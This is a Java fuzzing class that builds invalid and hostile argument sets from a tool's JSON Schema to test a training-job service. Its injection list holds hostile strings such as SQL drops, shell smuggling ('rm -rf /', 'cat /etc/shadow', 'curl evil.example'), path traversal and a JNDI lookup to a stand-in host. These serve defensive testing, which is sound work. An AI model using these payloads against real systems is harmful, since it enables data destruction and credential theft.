package dev.trainops.app;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * Invalid and hostile argument sets for one tool, derived from the tool's own input schema (JSON
 * Schema 2020-12 as {@code ToolCatalog.inputSchema} gives it): a plausible call, then one or more
 * faults in it, at the top level or inside an item of an array of objects. Seeded, so a failing
 * case is reproduced by its seed and index (issue 14, "Bad input at scale").
 */
final class HostileArguments {
    /** One case: what was done to the arguments, and the arguments. */
    record Case(String kind, Map<String, Object> arguments) {
    }

    /** Shared, never changed: a megabyte of text and ten thousand items cost nothing to reuse. */
    static final String MEGABYTE = "m".repeat(1 << 20);
    static final List<Object> TEN_THOUSAND = Collections.nCopies(10_000, "item");
    static final Map<String, Object> DEEP_OBJECT = deepObject(1000);
    static final List<Object> DEEP_ARRAY = deepArray(1000);

    static final List<String> UNICODE = List.of("\u202Eevil\u202C", "team\u200B-a", "\uFEFFllm", "🚀🔥💸", "team-a\u0000", "\u0000",
            "\uD800", "\uDC00x", "x\uD83D", "a\u0301\u0301\u0301", "\u0645\u0631\u062D\u0628\u0627", "𝕥𝕖𝕒𝕞", "\r\n\t", " ", "",
            "\u2028\u2029", "\\u0000", "%00", "\u00A0team-a\u00A0");
    static final List<String> INJECTION = List.of("' OR 1=1", "' OR '1'='1' --", "tags.team = 'x'", "tags.team = 'team-b' OR tags.team LIKE '%'",
            "attributes.run_name LIKE '%'", "params.model = 'llm'\" OR \"\"=\"", "../", "../../etc/passwd", "team-a/../team-b", "TEAM-A",
            "a..b", "a".repeat(300), "-leading", "trailing-", "team_a", "kube-system", "default", "team-a; rm -rf /", "$(reboot)",
            "`id`", "| cat /etc/shadow", "&& curl evil.example", "'; DROP TABLE queue_job; --", "1; DELETE FROM audit_log",
            "\" OR \"\"=\"", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "%s%s%s%n", "*", "%", "?",
            "team-b", "team-a\nteam-b", "null", "undefined", "true", "[]", "{}");
    static final List<String> EXTREMES = List.of("9999-12-31", "0000-01-01", "+999999999-12-31", "-999999999-01-01", "2026-02-30",
            "2026-13-01", "2026-00-10", "1970-01-01", "20261201", "2026-12-01T00:00:00Z", "+1000000000-01-01T00:00:00Z",
            "-1000000000-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "1970-01-01T00:00:00Z", "2026-12-01T25:61:00Z", "now", "NOW",
            "off_peak", "later", "NaN", "Infinity", "-Infinity", "1e308", "-1e308", "1e-308", "-0", "0", "-1", "0x10", "1_000",
            "99999999999999999999999999999999.999999", "0.0000000001", "5.00", "-5.00", "5,00", "１２", "1g.10gb", "7g.80gb", "0g.0gb",
            "tj-", "tj-000000000000", "tj-ffffffffffff", "tb-000000000000", "llm", "mnist", "H100", "h100", "A100-80GB", "T4", "none");
    static final List<String> EXTRA_KEYS = List.of("__proto__", "constructor", "$ref", "", " ", "team ", "Team", "TEAM", "teamId",
            "admin", "role", "principal", "subject", "\u0000", "🚀", "a".repeat(300), "params.model", "jobs[0]", "_meta");

    private final Map<String, Object> schema;
    private final Random random;
    /**
     * A plausible call of a tool that writes and takes dry_run (queue_training_job) is a dry run
     * nine times in ten: the same checks, pricing and Job manifest, nothing stored. The tenth is
     * real, so the queue holds hundreds of jobs, not thousands, and every later call that lists
     * them stays cheap.
     */
    private final boolean mostlyDryRuns;

    HostileArguments(Map<String, Object> schema, Random random) {
        this(schema, random, false);
    }

    HostileArguments(Map<String, Object> schema, Random random, boolean mostlyDryRuns) {
        this.schema = schema;
        this.random = random;
        this.mostlyDryRuns = mostlyDryRuns;
    }

    /** The next case: mostly faults, a few plausible calls (the ones that reach the domain with their odd strings). */
    Case next() {
        Map<String, Object> args = plausible(schema);
        int roll = random.nextInt(100);
        if (roll < 2) {
            return new Case("plausible", args);
        }
        if (roll < 4) {
            return new Case("empty", new LinkedHashMap<>());
        }
        int faults = roll < 90 ? 1 : 2 + random.nextInt(2);
        StringBuilder kind = new StringBuilder();
        for (int i = 0; i < faults; i++) {
            kind.append(i == 0 ? "" : "+").append(fault(args));
        }
        return new Case(kind.toString(), args);
    }

    /** One fault, at the top level or inside a nested object; returns its name. */
    private String fault(Map<String, Object> args) {
        Map<String, Object> target = args;
        Map<String, Object> targetSchema = schema;
        String where = "";
        for (var e : properties(schema).entrySet()) {
            Map<String, Object> items = items(e.getValue());
            // not into a huge array: its 10,000 items are one shared map, and a fault in it would be 10,000 faults (10^8
            // values for a huge array inside it, far past what --max-request-bytes lets a client send)
            if (items != null && args.get(e.getKey()) instanceof List<?> list && !list.isEmpty() && list.size() <= 100
                    && list.get(0) instanceof Map<?, ?> && random.nextBoolean()) {
                @SuppressWarnings("unchecked")
                Map<String, Object> first = (Map<String, Object>) list.get(0);
                target = first;
                targetSchema = items;
                where = e.getKey() + "[0].";
            }
        }
        Map<String, Map<String, Object>> props = properties(targetSchema);
        List<String> names = new ArrayList<>(props.keySet());
        if (names.isEmpty()) {
            target.put(pick(EXTRA_KEYS), pick(INJECTION));
            return "extra-field(no-args)";
        }
        String p = names.get(random.nextInt(names.size()));
        Map<String, Object> ps = props.get(p);
        String type = String.valueOf(ps.get("type"));
        String kind = switch (FAULTS[random.nextInt(FAULTS.length)]) {
            case 0 -> put(target, p, wrongType(type), "wrong-type");
            case 1 -> {
                List<String> required = required(targetSchema);
                if (required.isEmpty()) {
                    yield put(target, p, null, "null");
                }
                p = pick(required);
                target.remove(p);
                yield "missing";
            }
            case 2 -> {
                String key = pick(EXTRA_KEYS);
                target.put(key, random.nextBoolean() ? pick(INJECTION) : random.nextInt());
                yield "extra";
            }
            case 3 -> put(target, p, outOfRange(ps), "out-of-range");
            case 4 -> put(target, p, random.nextInt(4) == 0 ? MEGABYTE : "s".repeat(maxLength(ps) + 1 + random.nextInt(10)), "huge-string");
            case 5 -> put(target, p, "array".equals(type) && items(ps) != null ? Collections.nCopies(10_000, plausibleValue(p, items(ps)))
                    : TEN_THOUSAND, "huge-array");
            case 6 -> put(target, p, "object".equals(type) ? Map.of(pick(UNICODE), pick(UNICODE)) : pick(UNICODE), "unicode");
            case 7 -> put(target, p, "object".equals(type) ? Map.of(pick(INJECTION), pick(INJECTION)) : pick(INJECTION), "injection");
            case 8 -> put(target, p, pick(EXTREMES), "extreme-string");
            case 9 -> put(target, p, random.nextBoolean() ? DEEP_OBJECT : DEEP_ARRAY, "deep-nesting");
            case 10 -> {
                if (random.nextBoolean()) {
                    yield put(target, p, null, "null");
                }
                for (String n : names) {
                    target.put(n, null);
                }
                yield "nulls-everywhere";
            }
            case 11 -> put(target, p, offCaseEnum(ps), "enum-case");
            case 12 -> put(target, p, List.of(plausibleValue(p, ps)), "wrapped-in-array");
            default -> put(target, p, Map.of(p, plausibleValue(p, ps)), "wrapped-in-object");
        };
        return kind + "(" + where + p + ")";
    }

    /**
     * How often each fault is drawn. Most never bind (a wrong type, a missing or extra argument, a
     * number out of range, too long, too deep), so they cost microseconds; the few that bind and
     * reach the domain (odd strings, off-case enums, nulls, arrays in place of values) cost a call
     * each, and some of those reach the store: they are drawn less often.
     */
    private static final int[] FAULTS = {0, 0, 0, 0, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 3, 4, 4, 5, 5, 9, 9, 12, 12, 13, 13, 10, 10,
            6, 7, 8, 11};

    private static String put(Map<String, Object> target, String p, Object value, String kind) {
        target.put(p, value);
        return kind;
    }

    private Object wrongType(String type) {
        List<Object> all = new ArrayList<>(List.of("5", 5, 5.5, true, List.of(), Map.of(), List.of(1, 2), Map.of("a", 1)));
        all.add(null);
        Object v;
        do {
            v = all.get(random.nextInt(all.size()));
        } while (matches(type, v));
        return v;
    }

    private static boolean matches(String type, Object v) {
        return switch (type) {
            case "string" -> v instanceof String;
            case "integer" -> v instanceof Integer;
            case "number" -> v instanceof Number;
            case "boolean" -> v instanceof Boolean;
            case "array" -> v instanceof List<?>;
            case "object" -> v instanceof Map<?, ?>;
            default -> false;
        };
    }

    private Object outOfRange(Map<String, Object> ps) {
        double min = ps.get("minimum") instanceof Number n ? n.doubleValue() : 0;
        double max = ps.get("maximum") instanceof Number n ? n.doubleValue() : 1e6;
        List<Object> values = List.of((long) min - 1, (long) max + 1, min - 0.5, max + 0.5, 1e308, -1e308, Long.MAX_VALUE, Long.MIN_VALUE,
                Integer.MAX_VALUE, (long) Integer.MAX_VALUE + 1, Integer.MIN_VALUE, new BigInteger("1" + "0".repeat(30)),
                new BigDecimal("1E+400"), new BigDecimal("-1E-400"), -0.0, 1.5, 0.5, -1, 0, Double.NaN, Double.POSITIVE_INFINITY,
                Double.NEGATIVE_INFINITY, Double.MIN_VALUE, "NaN", "Infinity", "-0", "1e308", "0x10", "1_000", "");
        return values.get(random.nextInt(values.size()));
    }

    private Object offCaseEnum(Map<String, Object> ps) {
        if (ps.get("enum") instanceof List<?> values && !values.isEmpty()) {
            String v = String.valueOf(values.get(random.nextInt(values.size())));
            return switch (random.nextInt(6)) {
                case 0 -> v.toLowerCase(Locale.ROOT);
                case 1 -> v.substring(0, 1).toLowerCase(Locale.ROOT) + v.substring(1);
                case 2 -> " " + v;
                case 3 -> v + "\u0000";
                case 4 -> v.replace('_', '-');
                default -> v + "X";
            };
        }
        return pick(List.of("URGENT", "urgent", "Normal", "background", "team", "TEAM", "Rate_Class"));
    }

    /** A call that binds: required arguments always, optional ones now and then, values of the right type within bounds. */
    Map<String, Object> plausible(Map<String, Object> s) {
        Map<String, Object> out = new LinkedHashMap<>();
        List<String> required = required(s);
        for (var e : properties(s).entrySet()) {
            if (mostlyDryRuns && "dry_run".equals(e.getKey())) {
                out.put("dry_run", random.nextInt(10) != 0);
            } else if (required.contains(e.getKey()) || random.nextInt(3) == 0) {
                out.put(e.getKey(), plausibleValue(e.getKey(), e.getValue()));
            }
        }
        return out;
    }

    private Object plausibleValue(String name, Map<String, Object> ps) {
        if (ps.get("enum") instanceof List<?> values && !values.isEmpty()) {
            return values.get(random.nextInt(values.size()));
        }
        String type = String.valueOf(ps.get("type"));
        return switch (type) {
            case "integer" -> {
                long min = ps.get("minimum") instanceof Number n ? n.longValue() : 0;
                long max = ps.get("maximum") instanceof Number n ? n.longValue() : min + 10;
                yield (int) Math.min(max, min + random.nextInt(3));
            }
            case "number" -> 0.01 * (1 + random.nextInt(50));
            case "boolean" -> random.nextBoolean();
            case "array" -> {
                Map<String, Object> items = items(ps);
                List<Object> list = new ArrayList<>();
                int n = ps.get("minItems") instanceof Number m ? Math.max(1, m.intValue()) : 1;
                for (int i = 0; i < n + random.nextInt(2); i++) {
                    list.add(items == null ? "x" : "object".equals(items.get("type")) ? plausible(items) : plausibleValue(name, items));
                }
                yield list;
            }
            case "object" -> properties(ps).isEmpty() ? new LinkedHashMap<>(Map.of("learning_rate", "0.001")) : plausible(ps);
            default -> plausibleString(name);
        };
    }

    /** Strings the sandbox knows, by the argument's name, so that a fault elsewhere is the only one. */
    private String plausibleString(String name) {
        return switch (name) {
            case "team", "namespace", "scope" -> pick(List.of("team-a", "team-b", "team-a", "nobody"));
            case "model", "job_name" -> pick(List.of("llm", "mnist", "resnet"));
            case "run_name", "label", "batch_name", "reason", "idempotency_key" -> "fuzz-" + random.nextInt(1_000_000);
            case "gpu_type" -> pick(List.of("H100", "A100-80GB", "L4", "T4"));
            case "mig_profile" -> pick(List.of("1g.10gb", "3g.40gb"));
            case "start_date" -> "2026-11-01";
            case "end_date" -> "2026-12-01";
            case "schedule" -> pick(List.of("now", "off_peak"));
            case "deadline" -> "2026-12-24T00:00:00Z";
            case "max_cost" -> pick(List.of("5.00", "0.01", "1000"));
            case "job_id" -> "tj-" + String.format("%012x", random.nextInt(1 << 20));
            case "batch_id" -> "tb-" + String.format("%012x", random.nextInt(1 << 20));
            case "run_id" -> String.format("%032x", random.nextInt());
            case "job_type" -> pick(List.of("training", "validation", "fine-tune"));
            default -> "x";
        };
    }

    @SuppressWarnings("unchecked")
    static Map<String, Map<String, Object>> properties(Map<String, Object> s) {
        return s.get("properties") instanceof Map<?, ?> m ? (Map<String, Map<String, Object>>) m : Map.of();
    }

    @SuppressWarnings("unchecked")
    static List<String> required(Map<String, Object> s) {
        return s.get("required") instanceof List<?> l ? (List<String>) l : List.of();
    }

    @SuppressWarnings("unchecked")
    static Map<String, Object> items(Map<String, Object> ps) {
        return ps.get("items") instanceof Map<?, ?> m ? (Map<String, Object>) m : null;
    }

    private static int maxLength(Map<String, Object> ps) {
        return ps.get("maxLength") instanceof Number n ? n.intValue() : 256;
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static Map<String, Object> deepObject(int depth) {
        Map<String, Object> inner = Map.of("leaf", "x");
        for (int i = 0; i < depth; i++) {
            inner = Map.of("n", inner);
        }
        return inner;
    }

    private static List<Object> deepArray(int depth) {
        List<Object> inner = List.of("x");
        for (int i = 0; i < depth; i++) {
            inner = List.of(inner);
        }
        return inner;
    }
}
